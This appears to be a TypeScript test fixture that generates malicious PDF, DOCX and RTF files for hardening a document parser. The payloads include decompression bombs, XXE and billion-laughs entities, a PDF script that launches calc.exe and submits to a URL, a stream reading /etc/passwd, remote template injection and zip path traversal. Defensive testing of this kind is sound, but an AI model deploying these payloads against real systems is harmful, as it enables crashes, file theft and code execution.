import {
  climbing,
  entity,
  latin,
  laughs,
  MB,
  nested,
  of,
  type HostileDocument,
} from "./hostile-documents.fixture.ts";
import { makeDocx, makePdf, makePdfBomb, makeZip } from "../../practice/lawsuit-files/documents.fixture.ts";

/** A PDF of the given objects, with a valid cross-reference table. */
function pdfOf(objects: readonly string[], trailer = "/Root 1 0 R"): Buffer {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const size = objects.length + 1;
  return latin(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${places.join("")}trailer << /Size ${size} ${trailer} >>\nstartxref\n${text.length}\n%%EOF`,
  );
}
const CATALOG = "<< /Type /Catalog /Pages 2 0 R >>";
const PAGES = "<< /Type /Pages /Count 1 /Kids [3 0 R] >>";
const pageWith = (more: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${more} >>`;

/** Malicious documents that look like a petition or a gazette. */
export const hostileDocuments: readonly HostileDocument[] = [
  ...of(
    "PDF",
    "dia.pdf",
    ["gazette", "file"],
    [
      ["a page that unpacks to 64 MB", () => makePdfBomb(64)],
      [
        "lists in lists, 200,000 deep",
        () => pdfOf([CATALOG, PAGES, pageWith(`/A ${nested("[", "]", 200_000)}`)]),
      ],
      [
        "pages that are their own parents",
        () => pdfOf([CATALOG, "<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>"]),
      ],
      [
        "two thousand million pages",
        () => pdfOf([CATALOG, "<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>", pageWith("")]),
      ],
      [
        "a page that is drawn of itself",
        () =>
          pdfOf([
            CATALOG,
            PAGES,
            pageWith("/Contents 4 0 R /Resources << /XObject << /A 4 0 R >> >>"),
            "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 4 0 R >> >> /Length 8 >>\nstream\n/A Do /A Do\nendstream",
          ]),
      ],
      [
        "a script, a program to start and a page to open",
        ({ url }) =>
          pdfOf([
            `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${url}'\\)) /Next << /S /Launch /F (calc.exe) /Next << /S /URI /URI (${url}/u) >> >> >> >>`,
            PAGES,
            pageWith(""),
          ]),
      ],
      [
        "a stream that lies elsewhere",
        ({ url }) =>
          pdfOf([
            CATALOG,
            PAGES,
            pageWith("/Contents 4 0 R"),
            `<< /F << /FS /URL /F (${url}/s) >> /Length 0 >>\nstream\n\nendstream`,
          ]),
      ],
      [
        "a stream that lies in a file",
        () =>
          pdfOf([
            CATALOG,
            PAGES,
            pageWith("/Contents 4 0 R"),
            "<< /F (/etc/passwd) /Length 0 >>\nstream\n\nendstream",
          ]),
      ],
      [
        "tables of places that point at each other",
        () =>
          latin(
            "%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer << /Size 1 /Prev 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF",
          ),
      ],
      [
        "a picture of 100,000 by 100,000",
        () =>
          pdfOf([
            CATALOG,
            PAGES,
            pageWith("/Contents 5 0 R /Resources << /XObject << /A 4 0 R >> >>"),
            "<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Length 3 >>\nstream\nabc\nendstream",
            "<< /Length 5 >>\nstream\n/A Do\nendstream",
          ]),
      ],
      [
        "a form in XML with entities of elsewhere",
        (bait) =>
          pdfOf([
            `<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>`,
            PAGES,
            pageWith(""),
            `<< /Length 9999 >>\nstream\n${entity(bait)}<xdp>&a;&b;</xdp>\nendstream`,
          ]),
      ],
      ["an end that never comes", () => makePdf(["Texto"]).subarray(0, 400)],
    ],
  ),
  ...of(
    "DOCX",
    "petição.docx",
    ["file", "gazette"],
    [
      [
        "a text that unpacks to 256 MB",
        () => makeZip({ "word/document.xml": Buffer.alloc(256 * MB, "<w:t>") }),
      ],
      [
        "entities of elsewhere",
        (bait) => makeZip({ "word/document.xml": `${entity(bait)}<w:p><w:t>&a;&b;&d;</w:t></w:p>` }),
      ],
      [
        "entities that multiply",
        () => makeZip({ "word/document.xml": `${laughs}<w:p><w:t>&l20;</w:t></w:p>` }),
      ],
      [
        "elements in elements, 300,000 deep",
        () => makeZip({ "word/document.xml": nested("<w:p>", "</w:p>", 300_000) }),
      ],
      [
        "a template and pictures of elsewhere",
        ({ url }) =>
          makeZip({
            "word/document.xml": "<w:p><w:t>Texto</w:t></w:p>",
            "word/_rels/settings.xml.rels": `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/t.dotm" TargetMode="External"/></Relationships>`,
          }),
      ],
      [
        "names that climb out",
        ({ file }) =>
          makeZip({ "word/document.xml": "<w:t>Texto</w:t>" }).then((zip) =>
            latin(
              zip
                .toString("latin1")
                .replaceAll("word/document.xml", climbing(file).slice(-17).padStart(17, "../")),
            ),
          ),
      ],
      [
        "one attribute of 20 MB",
        () => makeZip({ "word/document.xml": `<w:p a="${"x".repeat(20 * MB)}"><w:t>a</w:t></w:p>` }),
      ],
      [
        "a million attributes",
        () =>
          makeZip({
            "word/document.xml": `<w:p ${Array.from({ length: 300_000 }, (_, n) => `a${n}=""`).join(" ")}/>`,
          }),
      ],
      ["an end that never comes", async () => (await makeDocx("Texto")).subarray(0, 300)],
    ],
  ),
  ...of(
    "RTF",
    "nota.rtf",
    ["file", "gazette"],
    [
      ["groups in groups, a million deep", () => `{\\rtf1${nested("{", "}", 1_000_000)}}`],
      ["groups that never close", () => `{\\rtf1${"{\\b ".repeat(500_000)}`],
      ["two thousand million bytes that are not there", () => "{\\rtf1\\bin2147483647 abc}"],
      [
        "objects and pictures of elsewhere",
        ({ url }) =>
          `{\\rtf1{\\object\\objautlink{\\*\\objclass Word}{\\*\\objdata ${"41".repeat(1000)}}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/p"}}{\\*\\template ${url}/t}}`,
      ],
      [
        "numbers beyond all letters",
        () => `{\\rtf1 \\u99999999999999? \\u-99999 \\'zz \\uc999999 \\u8364 a}`,
      ],
      ["words of 5 MB", () => `{\\rtf1\\${"a".repeat(5 * MB)} texto}`],
      ["a code page that is none", () => "{\\rtf1\\ansi\\ansicpg99999 \\'e7}"],
    ],
  ),
];
